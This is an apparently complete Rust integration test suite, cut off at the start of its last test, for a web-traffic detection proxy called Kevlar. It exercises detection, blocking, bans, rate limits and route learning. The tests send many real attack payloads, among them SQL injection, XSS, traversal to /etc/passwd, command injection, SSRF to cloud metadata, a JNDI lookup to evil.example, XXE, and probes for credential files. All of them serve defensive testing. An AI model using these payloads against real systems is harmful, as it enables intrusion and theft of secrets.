//! Malicious-traffic detection through the binary, against the demo app (OWASP Top 10 A03
//! Injection, A01 Broken Access Control probes, A05 Security Misconfiguration; OWASP AppSensor
//! detection points for the events): every family is seen on a real request; `monitor` forwards
//! and `block` answers 403; the black book, jails and bans; allow lists; `X-Forwarded-For` from
//! untrusted peers; rate limits; the route inventory.
#![allow(clippy::unwrap_used)]

mod common;

use std::process::Command;

use common::{client, DemoApp, Kevlar, KEVLAR};
use serde_json::Value;

fn family_events(k: &Kevlar) -> Vec<Value> {
    k.events(&["--limit", "10000"])
        .into_iter()
        .filter(|e| e["event"]["action"].as_str().is_some_and(|a| a.starts_with("malicious_")))
        .collect()
}

fn family_of(e: &Value) -> &str {
    e["kevlar"]["family"].as_str().unwrap_or("")
}

fn kevlar_cli(data_dir: &std::path::Path, args: &[&str]) -> (i32, String, String) {
    let out = Command::new(KEVLAR).args(args).arg("--data-dir").arg(data_dir).output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[tokio::test]
async fn every_family_is_detected_and_monitor_mode_forwards() {
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).start();
    let c = client();
    let xml = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    // (family, request) pairs; in monitor mode every one reaches the app.
    let cases: Vec<(&str, reqwest::RequestBuilder)> = vec![
        ("sqli", c.get(k.url("/?q=1%27%20OR%20%271%27%3D%271")).header("x-case", "sqli")),
        ("xss", c.get(k.url("/?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E"))),
        ("traversal", c.get(k.url("/?file=..%2F..%2F..%2Fetc%2Fpasswd"))),
        ("cmdi", c.get(k.url("/?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"))),
        ("ssrf", c.get(k.url("/?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"))),
        (
            "nosql",
            c.post(k.url("/login"))
                .header("content-type", "application/json")
                .body(r#"{"email":{"$ne":null},"password":{"$ne":null}}"#),
        ),
        (
            "prototype_pollution",
            c.post(k.url("/echo-headers"))
                .header("content-type", "application/json")
                .body(r#"{"__proto__":{"isAdmin":true}}"#),
        ),
        ("ssti", c.get(k.url("/?greeting=%7B%7B7*7%7D%7D"))),
        ("jndi", c.get(k.url("/")).header("x-api-version", "${jndi:ldap://evil.example/a}")),
        (
            "java",
            c.post(k.url("/login"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
        ),
        ("xxe", c.post(k.url("/upload")).header("content-type", "application/xml").body(xml)),
        ("crlf", c.get(k.url("/?next=%0d%0aSet-Cookie:%20admin=1"))),
        ("probe", c.get(k.url("/.env"))),
        ("tool", c.get(k.url("/")).header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
        ("protocol", c.request(reqwest::Method::from_bytes(b"TRACE").unwrap(), k.url("/"))),
    ];
    for (family, req) in cases {
        let r = req.send().await.unwrap();
        assert_ne!(r.status(), 403, "{family}: monitor mode must forward");
        let ev = k.wait_event(|e| family_of(e) == family);
        assert_eq!(ev["source"]["ip"], "127.0.0.1", "{family}");
        assert!(ev["http"]["request"]["id"].as_str().is_some_and(|s| s.len() == 32), "{family}: {ev}");
        assert_eq!(ev["kevlar"]["blocked"], false, "{family}");
        assert!(ev["kevlar"]["location"].as_str().is_some_and(|l| !l.is_empty()), "{family}: {ev}");
        assert!(ev["kevlar"]["score"].as_u64().is_some_and(|s| (1..=10).contains(&s)), "{family}: {ev}");
    }
    let evs = family_events(&k);
    let action =
        |f: &str| evs.iter().find(|e| family_of(e) == f).unwrap()["event"]["action"].as_str().unwrap().to_owned();
    assert_eq!(action("sqli"), "malicious_attack");
    assert_eq!(action("probe"), "malicious_probe");
    assert_eq!(action("tool"), "malicious_attack_tool");
    let sqli = evs.iter().find(|e| family_of(e) == "sqli").unwrap();
    assert_eq!(sqli["kevlar"]["location"], "args.q");
    assert_eq!(sqli["kevlar"]["excerpt"], "1' OR '1'='1");
    let nosql = evs.iter().find(|e| family_of(e) == "nosql").unwrap();
    assert!(nosql["kevlar"]["location"].as_str().unwrap().starts_with("body."), "{nosql}");
}

#[tokio::test]
async fn legitimate_traffic_is_not_flagged() {
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).start();
    let c = client();
    let r = c
        .post(k.url("/login"))
        .form(&[("email", "alice@example.com"), ("password", "correct horse battery staple")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 302);
    for q in [
        "/?q=running+shoes&page=2",
        "/?name=O%27Reilly&city=S%C3%A3o+Paulo",
        "/?comment=Tom+%26+Jerry%3B+union+of+friends",
    ] {
        assert_eq!(c.get(k.url(q)).send().await.unwrap().status(), 200, "{q}");
    }
    let r = c
        .post(k.url("/upload"))
        .header("content-type", "application/json")
        .body(r#"{"items":[{"name":"Lamp","price":12.5}],"note":"Leave it at the door, please."}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    // A marker event, then: nothing malicious recorded before it.
    let _ = c.get(k.url("/.git/HEAD")).send().await.unwrap();
    k.wait_event(|e| family_of(e) == "probe");
    let flagged: Vec<Value> = family_events(&k).into_iter().filter(|e| family_of(e) != "probe").collect();
    assert!(flagged.is_empty(), "false positives: {flagged:#?}");
}

#[tokio::test]
async fn block_mode_answers_403_with_the_request_id() {
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).config("[detect]\nmode = \"block\"\n").start();
    let c = client();
    let r = c.get(k.url("/?q=1%20union%20select%20password%20from%20users--")).send().await.unwrap();
    assert_eq!(r.status(), 403);
    let id = r.headers()["x-request-id"].to_str().unwrap().to_owned();
    let page = r.text().await.unwrap();
    assert!(page.contains(&id), "the page shows the request id");
    let ev = k.wait_event(|e| family_of(e) == "sqli");
    assert_eq!(ev["kevlar"]["blocked"], true);
    assert_eq!(ev["http"]["request"]["id"], id.as_str());
    // A clean request still passes.
    assert_eq!(c.get(k.url("/?q=shoes")).send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn modes_per_family_and_path_and_exclusions() {
    let app = DemoApp::start();
    let cfg = r#"
[detect]
mode = "monitor"
[detect.families]
xss = "block"
traversal = "off"
[[detect.path]]
prefix = "/upload"
mode = "off"
[[detect.exclude]]
args = ["search"]
families = ["sqli"]
"#;
    let k = Kevlar::guard(&app.url()).config(cfg).start();
    let c = client();
    // xss blocks everywhere (but /upload, whose path mode is off)
    assert_eq!(c.get(k.url("/?n=%3Cscript%3Ealert(1)%3C/script%3E")).send().await.unwrap().status(), 403);
    // sqli is monitored: forwarded
    assert_eq!(c.get(k.url("/?q=1%27%20or%201%3D1--")).send().await.unwrap().status(), 200);
    // traversal is off: nothing recorded for it
    assert_eq!(c.get(k.url("/?f=..%2F..%2Fetc%2Fpasswd")).send().await.unwrap().status(), 200);
    // excluded argument
    assert_eq!(c.get(k.url("/?search=1%27%20or%201%3D1--")).send().await.unwrap().status(), 200);
    // path off
    let r = c.post(k.url("/upload?x=%3Cscript%3Ealert(1)%3C/script%3E")).body("x").send().await.unwrap();
    assert_eq!(r.status(), 200);
    k.wait_event(|e| family_of(e) == "sqli");
    let evs = family_events(&k);
    assert!(evs.iter().all(|e| family_of(e) != "traversal"), "{evs:#?}");
    assert_eq!(evs.iter().filter(|e| family_of(e) == "sqli").count(), 1, "the excluded argument is not recorded");
    assert_eq!(evs.iter().filter(|e| family_of(e) == "xss").count(), 1, "nothing inspected under /upload");
}

#[tokio::test]
async fn request_bodies_reach_the_app_intact() {
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).config("[detect]\nbody_limit = \"4KiB\"\n").start();
    let c = client();
    for size in [10usize, 4096, 4097, 300_000] {
        let body: Vec<u8> = (0..size).map(|i| (i % 251) as u8).collect();
        let want = ring::digest::digest(&ring::digest::SHA256, &body);
        let hex: String = want.as_ref().iter().map(|b| format!("{b:02x}")).collect();
        let r = c
            .post(k.url("/upload"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{size}");
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["bytes"], size, "{size}");
        assert_eq!(v["sha256"], hex.as_str(), "{size}");
    }
    // A multipart upload whose file name climbs out of the upload directory.
    let form = reqwest::multipart::Form::new()
        .text("title", "holiday")
        .part("file", reqwest::multipart::Part::bytes(vec![7u8; 5000]).file_name("../../../../etc/cron.d/x"));
    let r = c.post(k.url("/upload")).multipart(form).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let ev = k.wait_event(|e| family_of(e) == "traversal");
    assert_eq!(ev["kevlar"]["location"], "body.file.filename");
}

#[tokio::test]
async fn passwords_never_reach_events_or_the_black_book() {
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).start();
    let secret = "zq' OR 1=1-- Kx9secret";
    let r = client()
        .post(k.url("/login"))
        .form(&[("email", "alice@example.com"), ("password", secret)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let ev = k.wait_event(|e| family_of(e) == "sqli");
    assert_eq!(ev["kevlar"]["location"], "body.password");
    assert_eq!(ev["kevlar"]["excerpt"], "[redacted]");
    let (code, out, _) = kevlar_cli(&k.data_dir, &["blackbook", "show", "127.0.0.1", "--json"]);
    assert_eq!(code, 0);
    assert!(!out.contains("Kx9secret"));
    // Everything Kevlar wrote (event store, black book, logs), after a clean stop.
    let mut k = k;
    k.sigterm();
    let files = walk(&k.data_dir);
    assert!(files.len() >= 2, "{files:?}");
    for f in files {
        let bytes = std::fs::read(&f).unwrap();
        assert!(!bytes.windows(9).any(|w| w == b"Kx9secret"), "the password is in {}", f.display());
    }
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(rd) = std::fs::read_dir(dir) {
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[tokio::test]
async fn probes_lead_to_a_ban_that_refuses_everything_until_unbanned() {
    let app = DemoApp::start();
    let cfg = r#"
[bans]
enforce = true
status = 429
[[bans.jail]]
name = "probes"
actions = ["malicious_probe"]
maxretry = 3
findtime = "1m"
bantime = "10m"
"#;
    let k = Kevlar::guard(&app.url()).config(cfg).start();
    let c = client();
    for p in ["/.env", "/.git/config", "/wp-login.php"] {
        let _ = c.get(k.url(p)).send().await.unwrap();
    }
    let ban = k.wait_event(|e| e["event"]["action"] == "malicious_ban");
    assert_eq!(ban["kevlar"]["enforced"], true);
    assert_eq!(ban["kevlar"]["source"], "jail:probes");
    let r = c.get(k.url("/")).send().await.unwrap();
    assert_eq!(r.status(), 429);
    let retry: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=600).contains(&retry), "{retry}");
    // The black book has the record and the ban.
    let (code, out, err) = kevlar_cli(&k.data_dir, &["blackbook", "list", "--banned", "--json"]);
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    let rec = &v["records"][0];
    assert_eq!(rec["address"], "127.0.0.1");
    assert_eq!(rec["counts"]["malicious_probe"], 3);
    assert_eq!(rec["banned"], true);
    assert_eq!(rec["samples"].as_array().unwrap().len(), 3);
    // Unban lifts it at once.
    let (code, out, err) = kevlar_cli(&k.data_dir, &["blackbook", "unban", "127.0.0.1"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(c.get(k.url("/")).send().await.unwrap().status(), 200);
    let (code, _, _) = kevlar_cli(&k.data_dir, &["blackbook", "unban", "127.0.0.1"]);
    assert_eq!(code, 1, "nothing left to unban");
    // A manual ban, with a reason, through the CLI.
    let (code, out, err) =
        kevlar_cli(&k.data_dir, &["blackbook", "ban", "127.0.0.1", "--for", "1h", "--reason", "manual test"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(c.get(k.url("/")).send().await.unwrap().status(), 429);
    let (_, out, _) = kevlar_cli(&k.data_dir, &["blackbook", "show", "127.0.0.1"]);
    assert!(out.contains("manual test"), "{out}");
}

#[tokio::test]
async fn bans_survive_a_restart_and_monitor_mode_only_records_them() {
    let app = DemoApp::start();
    let dir = tempfile::tempdir().unwrap();
    let cfg = "[[bans.jail]]\nname = \"probes\"\nactions = [\"malicious_probe\"]\nmaxretry = 2\nfindtime = \"1m\"\nbantime = \"1h\"\n";
    {
        let k = Kevlar::guard(&app.url()).data_dir(dir.path()).config(cfg).start();
        let c = client();
        let _ = c.get(k.url("/.env")).send().await.unwrap();
        let _ = c.get(k.url("/.aws/credentials")).send().await.unwrap();
        let ban = k.wait_event(|e| e["event"]["action"] == "malicious_ban");
        assert_eq!(ban["kevlar"]["enforced"], false, "monitor mode records, never refuses");
        assert_eq!(c.get(k.url("/")).send().await.unwrap().status(), 200);
        // A manual ban is enforced whatever the mode.
        let (code, _, err) = kevlar_cli(&k.data_dir, &["blackbook", "ban", "127.0.0.1"]);
        assert_eq!(code, 0, "{err}");
        assert_eq!(c.get(k.url("/")).send().await.unwrap().status(), 403);
    }
    let k = Kevlar::guard(&app.url()).data_dir(dir.path()).config(cfg).start();
    assert_eq!(client().get(k.url("/")).send().await.unwrap().status(), 403, "the ban outlives the restart");
    let (code, _, _) = kevlar_cli(&k.data_dir, &["blackbook", "unban", "127.0.0.1"]);
    assert_eq!(code, 0);
    assert_eq!(client().get(k.url("/")).send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn allow_listed_addresses_are_never_banned() {
    let app = DemoApp::start();
    let cfg = r#"
[blackbook]
allow = ["127.0.0.0/8"]
[bans]
enforce = true
[[bans.jail]]
name = "probes"
actions = ["malicious_probe"]
maxretry = 2
findtime = "1m"
bantime = "1h"
"#;
    let k = Kevlar::guard(&app.url()).config(cfg).start();
    let c = client();
    for p in ["/.env", "/.git/config", "/.ssh/id_rsa", "/site.tar.gz"] {
        let _ = c.get(k.url(p)).send().await.unwrap();
    }
    k.wait_event(|e| e["kevlar"]["rule"] == "backup_or_secret_file");
    assert_eq!(c.get(k.url("/")).send().await.unwrap().status(), 200);
    assert!(k.events(&["--limit", "1000"]).iter().all(|e| e["event"]["action"] != "malicious_ban"));
    let (code, _, err) = kevlar_cli(&k.data_dir, &["blackbook", "ban", "127.0.0.1"]);
    assert_eq!(code, 2, "an allow-listed address cannot be banned by hand either");
    assert!(err.contains("allow"), "{err}");
}

#[tokio::test]
async fn untrusted_forwarded_for_can_neither_frame_nor_escape() {
    let app = DemoApp::start();
    let cfg = "[bans]\nenforce = true\n[[bans.jail]]\nname = \"probes\"\nactions = [\"malicious_probe\"]\nmaxretry = 2\nfindtime = \"1m\"\nbantime = \"1h\"\n";
    // No trusted proxy: X-Forwarded-For is the client's own claim.
    let k = Kevlar::guard(&app.url()).config(cfg).start();
    let c = client();
    for p in ["/.env", "/.git/config"] {
        let r = c.get(k.url(p)).header("x-forwarded-for", "203.0.113.7").send().await.unwrap();
        assert_ne!(r.status(), 403);
    }
    let ban = k.wait_event(|e| e["event"]["action"] == "malicious_ban");
    assert_eq!(ban["kevlar"]["address"], "127.0.0.1", "the peer is banned, not the address it named");
    let r = c.get(k.url("/")).header("x-forwarded-for", "198.51.100.1").send().await.unwrap();
    assert_eq!(r.status(), 403, "a forged header does not escape the ban");
    let (code, _, _) = kevlar_cli(&k.data_dir, &["blackbook", "show", "203.0.113.7"]);
    assert_eq!(code, 1, "the named address was not framed");
    drop(k);

    // Behind a trusted proxy, the forwarded address is the client: bans are per client.
    let k = Kevlar::guard(&app.url()).config(cfg).args(["--trusted-proxy", "127.0.0.1"]).start();
    for p in ["/.env", "/.git/config"] {
        let _ = c.get(k.url(p)).header("x-forwarded-for", "203.0.113.7").send().await.unwrap();
    }
    let ban = k.wait_event(|e| e["event"]["action"] == "malicious_ban");
    assert_eq!(ban["kevlar"]["address"], "203.0.113.7");
    assert_eq!(c.get(k.url("/")).header("x-forwarded-for", "203.0.113.7").send().await.unwrap().status(), 403);
    assert_eq!(c.get(k.url("/")).header("x-forwarded-for", "203.0.113.8").send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn rate_limit_answers_429_with_retry_after() {
    let app = DemoApp::start();
    let cfg = "[ratelimit]\nper_ip = { rate = \"2/min\", burst = 3 }\n[[ratelimit.path]]\nprefix = \"/login\"\nrate = \"1/min\"\n";
    let k = Kevlar::guard(&app.url()).config(cfg).start();
    let c = client();
    let r = c.post(k.url("/login")).form(&[("email", "x@example.com"), ("password", "nope")]).send().await.unwrap();
    assert_eq!(r.status(), 401);
    let r = c.post(k.url("/login")).form(&[("email", "x@example.com"), ("password", "nope")]).send().await.unwrap();
    assert_eq!(r.status(), 429, "one login a minute");
    let retry: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&retry), "{retry}");
    let mut statuses = Vec::new();
    for _ in 0..4 {
        statuses.push(c.get(k.url("/health")).send().await.unwrap().status().as_u16());
    }
    assert_eq!(statuses, [200, 200, 429, 429], "burst of 3 per address (the /login call counted once)");
}

#[tokio::test]
async fn the_route_inventory_reflects_the_traffic() {
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).start();
    let c = client();
    for _ in 0..3 {
        c.get(k.url("/health")).send().await.unwrap();
    }
    c.get(k.url("/")).send().await.unwrap();
    for id in [17, 42, 99] {
        c.get(k.url(&format!("/users/{id}/orders"))).send().await.unwrap();
    }
    c.get(k.url("/.env")).send().await.unwrap();
    let routes = || {
        let (code, out, err) = kevlar_cli(&k.data_dir, &["routes", "--json"]);
        assert_eq!(code, 0, "{err}");
        let v: Value = serde_json::from_str(&out).unwrap();
        v["routes"].as_array().unwrap().clone()
    };
    let rows = routes();
    let find = |route: &str| {
        rows.iter().find(|r| r["route"] == route).cloned().unwrap_or_else(|| panic!("{route}: {rows:#?}"))
    };
    assert_eq!(find("/health")["hits"], 3);
    assert_eq!(find("/health")["statuses"]["200"], 3);
    assert_eq!(find("/users/{n}/orders")["hits"], 3);
    assert_eq!(find("/.env")["probe_only"], true);
    assert_eq!(find("/health")["probe_only"], false);
    let (_, table, _) = kevlar_cli(&k.data_dir, &["routes"]);
    assert!(table.contains("/users/{n}/orders") && table.contains("probe-only"), "{table}");
}

#[tokio::test]
async fn positive_mode_refuses_routes_outside_the_inventory() {
    let app = DemoApp::start();
    let dir = tempfile::tempdir().unwrap();
    {
        let k = Kevlar::guard(&app.url()).data_dir(dir.path()).start();
        client().get(k.url("/health")).send().await.unwrap();
        // The inventory is written within a second.
        for _ in 0..100 {
            let (_, out, _) = kevlar_cli(&k.data_dir, &["routes", "--json"]);
            if out.contains("/health") {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }
    let k = Kevlar::guard(&app.url()).data_dir(dir.path()).config("[routes]\npositive = true\n").start();
    let c = client();
    assert_eq!(c.get(k.url("/health")).send().await.unwrap().status(), 200);
    assert_eq!(c.get(k.url("/never-seen")).send().await.unwrap().status(), 404);
    k.wait_event(|e| e["kevlar"]["rule"] == "unknown_route");
}

#[tokio::test]
async fn the_admin_api_serves_the_black_book_and_routes() {
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).start();
    let c = client();
    let auth = format!("Bearer {}", k.token());
    assert_eq!(c.get(k.admin_url("/v1/blackbook")).send().await.unwrap().status(), 401);
    let v: Value =
        c.get(k.admin_url("/v1/blackbook")).header("authorization", &auth).send().await.unwrap().json().await.unwrap();
    assert_eq!(v["records"], serde_json::json!([]));
    let ban = |addr: &str, body: Value| {
        c.post(k.admin_url(&format!("/v1/blackbook/{addr}/ban"))).header("authorization", &auth).json(&body).send()
    };
    assert_eq!(ban("203.0.113.9", serde_json::json!({"for": "soon"})).await.unwrap().status(), 400);
    assert_eq!(ban("not-an-address", serde_json::json!({})).await.unwrap().status(), 400);
    let r = ban("203.0.113.9", serde_json::json!({"for": "1h", "reason": "api"})).await.unwrap();
    assert_eq!(r.status(), 200);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["banned"], true);
    assert_eq!(v["ban"]["reason"], "api");
    // IPv6 addresses are grouped by /64.
    let v: Value = ban("2001:db8:0:1::77", serde_json::json!({})).await.unwrap().json().await.unwrap();
    assert_eq!(v["address"], "2001:db8:0:1::/64");
    let r =
        c.get(k.admin_url("/v1/blackbook/2001:db8:0:1::%2F64")).header("authorization", &auth).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let del = || c.delete(k.admin_url("/v1/blackbook/203.0.113.9/ban")).header("authorization", &auth).send();
    assert_eq!(del().await.unwrap().status(), 200);
    assert_eq!(del().await.unwrap().status(), 404);
    let unban = k.wait_event(|e| e["event"]["action"] == "malicious_unban");
    assert_eq!(unban["kevlar"]["address"], "203.0.113.9");
    let r = c.get(k.admin_url("/v1/routes")).header("authorization", &auth).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let v: Value =
        c.get(k.admin_url("/v1/status")).header("authorization", &auth).send().await.unwrap().json().await.unwrap();
    assert_eq!(v["detection"]["mode"], "monitor");
    assert_eq!(v["detection"]["active_bans"], 1);
}

#[test]
fn help_names_the_new_commands() {
    let out = Command::new(KEVLAR).arg("--help").output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("blackbook") && text.contains("routes"), "{text}");
    let out = Command::new(KEVLAR).args(["blackbook", "ban", "--help"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("--for") && text.contains("--reason"), "{text}");
}

/// A shop written in Java (as the CSIC 2010 dataset's): `.jsp` pages, a Tomcat session cookie,
/// downloads named like archives; 404 for anything else.
const JSP_APP: &str = r#"
const http = require('http');
http.createServer((req, res) => {
  const path = req.url.split('?')[0];
  if (path.startsWith('/tienda1/') && path.endsWith('.jsp')) {
    res.writeHead(200, { 'content-type': 'text/html;charset=ISO-8859-1',
                         'set-cookie': 'JSESSIONID=933185092E0B668B90676E0A2B0767AF; Path=/tienda1' });
    return res.end('<html>tienda</html>');
  }
  if (path === '/files/fex-20070729.tar.gz') {
    res.writeHead(200, { 'content-type': 'application/gzip' });
    return res.end('archive');
  }
  res.writeHead(404, { 'content-type': 'text/html' });
  res.end('not found');
}).listen(0, '127.0.0.1', function () { console.log('listening ' + this.address().port); });
"#;

#[tokio::test]
async fn stack_auto_learns_a_jsp_app_and_its_downloads_from_the_answers() {
    let (_app, addr) = common::node_script(JSP_APP);
    let k = Kevlar::guard(&format!("http://{addr}")).args(["--trusted-proxy", "127.0.0.1"]).start();
    let c = client();
    for p in [
        "/tienda1/index.jsp",
        "/tienda1/publico/anadir.jsp?id=2&nombre=Jam%F3n+Ib%E9rico&precio=85&cantidad=49",
        "/tienda1/publico/registro.jsp?modo=registro",
        "/tienda1/miembros/editar.jsp",
    ] {
        assert_eq!(c.get(k.url(p)).send().await.unwrap().status(), 200, "{p}");
    }
    // A PHP script is still foreign to it, and its answer (404) is in the event.
    assert_eq!(c.get(k.url("/wp-login.php")).send().await.unwrap().status(), 404);
    let php = k.wait_event(|e| e["url"]["path"] == "/wp-login.php");
    assert_eq!(php["event"]["action"], "malicious_probe");
    assert_eq!(php["http"]["response"]["status_code"], 404);
    let jsp: Vec<Value> =
        family_events(&k).into_iter().filter(|e| e["url"]["path"].as_str().unwrap_or("").ends_with(".jsp")).collect();
    assert!(jsp.is_empty(), "the app's own .jsp pages raised {jsp:?}");

    // A download the app serves: a probe for its first two clients, the app's own from the third.
    let file = "/files/fex-20070729.tar.gz";
    for client_ip in ["203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.1", "203.0.113.4"] {
        let r = c.get(k.url(file)).header("x-forwarded-for", client_ip).send().await.unwrap();
        assert_eq!(r.status(), 200);
    }
    assert_eq!(c.get(k.url("/.env")).send().await.unwrap().status(), 404);
    k.wait_event(|e| e["url"]["path"] == "/.env");
    let downloads: Vec<Value> = family_events(&k).into_iter().filter(|e| e["url"]["path"] == file).collect();
    assert_eq!(downloads.len(), 2, "{downloads:?}");
    assert!(downloads
        .iter()
        .all(|e| e["kevlar"]["rule"] == "backup_or_secret_file" && e["http"]["response"]["status_code"] == 200));

    let (code, out, _) = kevlar_cli(&k.data_dir, &["status"]);
    assert_eq!(code, 0);
    assert!(out.contains("stack: auto; learned: java"), "{out}");
    drop(k);

    // The same pages in front of the Express demo app (its own `X-Powered-By: Express`): probes.
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).start();
    for p in ["/tienda1/index.jsp", "/tienda1/publico/registro.jsp", "/tienda1/miembros/editar.jsp"] {
        let _ = c.get(k.url(p)).send().await.unwrap();
    }
    let ev = k.wait_event(|e| e["url"]["path"] == "/tienda1/miembros/editar.jsp");
    assert_eq!(ev["kevlar"]["rule"], "foreign_stack_script");
    assert_eq!(family_events(&k).len(), 3);

    // Declared: `stack = "java"` needs no answer to learn from, even in block mode.
    let (_app2, addr2) = common::node_script(JSP_APP);
    let k = Kevlar::guard(&format!("http://{addr2}")).config("[detect]\nmode = \"block\"\nstack = \"java\"\n").start();
    assert_eq!(c.get(k.url("/tienda1/index.jsp")).send().await.unwrap().status(), 200);
    assert_eq!(c.get(k.url("/index.php")).send().await.unwrap().status(), 403);
}

#[test]
fn kevlar_detect_judges_values_and_requests_without_a_proxy() {
    let run = |args: &[&str], stdin: Option<&str>| {
        use std::io::Write;
        let mut c = Command::new(KEVLAR)
            .arg("detect")
            .args(args)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .current_dir(std::env::temp_dir())
            .spawn()
            .unwrap();
        c.stdin.take().unwrap().write_all(stdin.unwrap_or("").as_bytes()).unwrap();
        let out = c.wait_with_output().unwrap();
        (out.status.code().unwrap(), String::from_utf8_lossy(&out.stdout).into_owned())
    };
    let (code, out) = run(&["1 union select 1,2", "Jamón ibérico"], None);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("query   sqli/union_select in args.q"), "{out}");
    assert!(out.contains("json    sqli/union_select in body.q"), "{out}");
    assert!(out.contains("Jamón ibérico\n  nothing found"), "{out}");
    let (code, out) = run(&["--in", "path", "/..%c0%af..%c0%afetc/passwd"], None);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("traversal/dot_dot_slash in path"), "{out}");
    assert_eq!(run(&["a plain sentence, with commas."], None).0, 0);

    let lines = concat!(
        "\"%253Cscript%253Ealert(1)\"\n",
        "{\"method\":\"POST\",\"path\":\"/login\",\"headers\":{\"content-type\":\"application/json\"},\"body\":{\"user\":\"admin'--\",\"password\":\"x\"}}\n",
        "just text\n",
        "{\"headers\":{\"user-agent\":5}}\n",
    );
    let (code, out) = run(&["--file", "-", "--json", "--in", "query"], Some(lines));
    assert_eq!(code, 2, "a request that cannot be built is an error: {out}");
    let rows: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(rows.len(), 4);
    assert_eq!(rows[0]["findings"][0]["family"], "xss");
    assert_eq!(rows[0]["findings"][0]["decoding"], serde_json::json!(["percent", "percent"]));
    assert_eq!(rows[1]["input"], "line 2");
    assert_eq!(rows[1]["findings"][0]["location"], "body.user");
    assert!(rows[1]["findings"][0]["reading"].as_str().unwrap().starts_with("after '"), "{}", rows[1]);
    assert_eq!(rows[2]["findings"], serde_json::json!([]));
    assert!(rows[3]["error"].as_str().unwrap().contains("must be a string"));
}

#[tokio::test]
async fn events_explain_says_how_a_finding_was_reached_and_how_to_exclude_it() {
    let app = DemoApp::start();
    let k = Kevlar::guard(&app.url()).start();
    let c = client();
    let r =
        c.get(k.url("/search?q=1%2527%2520union%2520select%2520password%2520from%2520users--")).send().await.unwrap();
    assert_eq!(r.status(), 404, "monitor mode forwards; the demo app has no /search");
    let ev = k.wait_event(|e| e["kevlar"]["family"] == "sqli");
    assert_eq!(ev["kevlar"]["decoding"], serde_json::json!(["percent"]), "{ev}");
    assert!(ev["kevlar"]["reading"].as_str().unwrap().contains("Union Select"), "{ev}");
    let id = ev["event"]["id"].as_str().unwrap();
    let (code, out, _) = kevlar_cli(&k.data_dir, &["events", "--explain", id]);
    assert_eq!(code, 0, "{out}");
    for want in [
        "finding  sqli/union_select in args.q",
        "decoding percent",
        "reading  after ': Str Union Select",
        "[[detect.exclude]]\n  path = \"/search\"\n  families = [\"sqli\"]\n  args = [\"q\"]",
    ] {
        assert!(out.contains(want), "missing {want:?} in\n{out}");
    }
    // By request id: the same event.
    let rid = ev["http"]["request"]["id"].as_str().unwrap();
    let (code, by_request, _) = kevlar_cli(&k.data_dir, &["events", "--explain", rid]);
    assert_eq!((code, by_request.contains(id)), (0, true));
    assert_eq!(kevlar_cli(&k.data_dir, &["events", "--explain", "no-such-id"]).0, 1);
    drop(k);

    // The exclusion it printed, in a config: the same request passes without an event.
    let cfg = "[[detect.exclude]]\npath = \"/search\"\nfamilies = [\"sqli\"]\nargs = [\"q\"]\n";
    let k = Kevlar::guard(&app.url()).config(cfg).start();
    let _ =
        c.get(k.url("/search?q=1%2527%2520union%2520select%2520password%2520from%2520users--")).send().await.unwrap();
    let _ = c.get(k.url("/.env")).send().await.unwrap();
    k.wait_event(|e| e["url"]["path"] == "/.env");
    assert!(family_events(&k).iter().all(|e| e["kevlar"]["family"] != "sqli"));
}

/// An app that answers every request 200.
const OK_APP: &str = r#"
require('http').createServer((req, res) => { req.resume(); req.on('end', () => res.end('ok')); })
  .listen(0, '127.0.0.1', function () { console.log('listening ' + this.address().port); });
"#;

#[tokio::test]
async fn free_text_fields_need_strong_evidence_configured_or_learned() {
    let (_app, addr) = common::node_script(OK_APP);
